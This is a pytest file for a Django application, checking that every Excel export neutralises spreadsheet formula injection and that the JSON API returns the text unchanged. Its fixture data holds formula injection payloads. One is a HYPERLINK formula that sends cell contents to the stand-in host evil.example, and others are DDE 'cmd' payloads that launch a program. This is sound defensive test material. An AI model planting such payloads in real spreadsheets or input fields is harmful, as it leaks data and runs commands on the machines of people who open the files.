"""Formula injection (SPEC §4, issue 7 item 6): whatever a user typed, no cell of any Excel export runs as a
formula. Text beginning with = + - @ (or a tab / carriage return) gets a leading apostrophe (core.excel
.cell_safe): Excel shows it as text. Every export is fetched with hostile names and notes in the data it
lists; each must contain at least one of them, neutralised (so the check cannot pass on an empty sheet)."""

import io

import pytest
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from gendan.followup.models import FollowupException, ProgressRecord
from gendan.outsourcing.models import OutsourcingReturn
from gendan.parties.models import Customer, Supplier
from gendan.performance.models import Violation

pytestmark = pytest.mark.django_db

HOSTILE = {
    "=": '=HYPERLINK("http://evil.example/?d="&A1,"点我")',
    "+": "+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
}
DANGEROUS_STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def hostile_world(world):
    """The world with hostile text typed into names and notes that the exports list."""
    own = world.side("own")
    Customer.objects.filter(pk=own.customer.pk).update(name=HOSTILE["="], notes=HOSTILE["@"])
    world.people["m1"].__class__.objects.filter(pk=world.people["m1"].pk).update(display_name=HOSTILE["+"])
    FollowupException.objects.filter(pk=own.ids["exception"]).update(title=HOSTILE["-"])
    Violation.objects.filter(pk=own.ids["violation"]).update(description=HOSTILE["="])
    ProgressRecord.objects.filter(pk=own.ids["record"]).update(note=HOSTILE["-"])
    Supplier.objects.filter(pk=world.shared["subcontractor"]).update(name=HOSTILE["@"])
    OutsourcingReturn.objects.filter(outsourcing_order_id=own.ids["outsourcing_order"]).update(
        inspection_note=HOSTILE["@"]
    )
    return world


def exports(world) -> dict[str, tuple[str, dict]]:
    own = world.side("own")
    m1 = world.people["m1"].pk
    work_date = ProgressRecord.objects.get(pk=own.ids["record"]).work_date.isoformat()
    return {
        "orders": (reverse("order_export"), {}),
        "customers": (reverse("customer_export"), {}),
        "ledger": (reverse("ledger:export"), {}),
        "receivables": (reverse("ledger:receivables_export"), {"as_of": "2027-06-30"}),
        "KPI": (reverse("performance:team_export"), {"month": "2026-11"}),
        "bonus": (reverse("performance:bonus", args=[2026]), {"format": "xlsx"}),
        "scorecard": (reverse("performance:scorecard_export", args=[own.ids["score"]]), {}),
        "outsourcing statement": (
            reverse("outsourcing:statement"),
            {"subcontractor": world.shared["subcontractor"], "month": "2026-11", "format": "xlsx"},
        ),
        "outsourcing scorecard": (
            reverse("outsourcing:scorecard"),
            {"date_from": "2026-11-01", "date_to": "2026-12-31", "format": "xlsx"},
        ),
        "daily report": (reverse("followup:daily"), {"user": m1, "date": work_date, "format": "xlsx"}),
        "weekly report": (reverse("followup:weekly"), {"user": m1, "week": work_date, "format": "xlsx"}),
    }


EXPORTS = [
    "orders",
    "customers",
    "ledger",
    "receivables",
    "KPI",
    "bonus",
    "scorecard",
    "outsourcing statement",
    "outsourcing scorecard",
    "daily report",
    "weekly report",
]


@pytest.mark.parametrize("export", EXPORTS)
def test_no_export_cell_runs_as_a_formula(hostile_world, export):
    url, params = exports(hostile_world)[export]
    client = Client()
    client.force_login(hostile_world.people["admin"])
    response = client.get(url, params)
    assert response.status_code == 200, export
    assert response["Content-Type"].startswith("application/vnd.openxmlformats-officedocument.spreadsheetml")
    workbook = load_workbook(io.BytesIO(response.content))  # full mode: formulas would show as data_type "f"
    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
    assert cells
    formulas = [f"{cell.parent.title}!{cell.coordinate}" for cell in cells if cell.data_type == "f"]
    assert formulas == []
    texts = [cell.value for cell in cells if isinstance(cell.value, str)]
    assert [text for text in texts if text.startswith(DANGEROUS_STARTS)] == []
    neutralised = {
        prefix for prefix, value in HOSTILE.items() if any(text.startswith("'" + value) for text in texts)
    }
    assert neutralised, f"{export}: none of the hostile values is in the export, the check would be blind"


def test_the_api_answers_hostile_text_as_data(hostile_world):
    """JSON carries the text as it was typed (no apostrophe): neutralising is for spreadsheets only."""
    client = Client(HTTP_AUTHORIZATION=f"Bearer {hostile_world.tokens['admin']}")
    body = client.get(f"/api/v1/customers/{hostile_world.side('own').customer.pk}").json()
    assert body["name"] == HOSTILE["="]
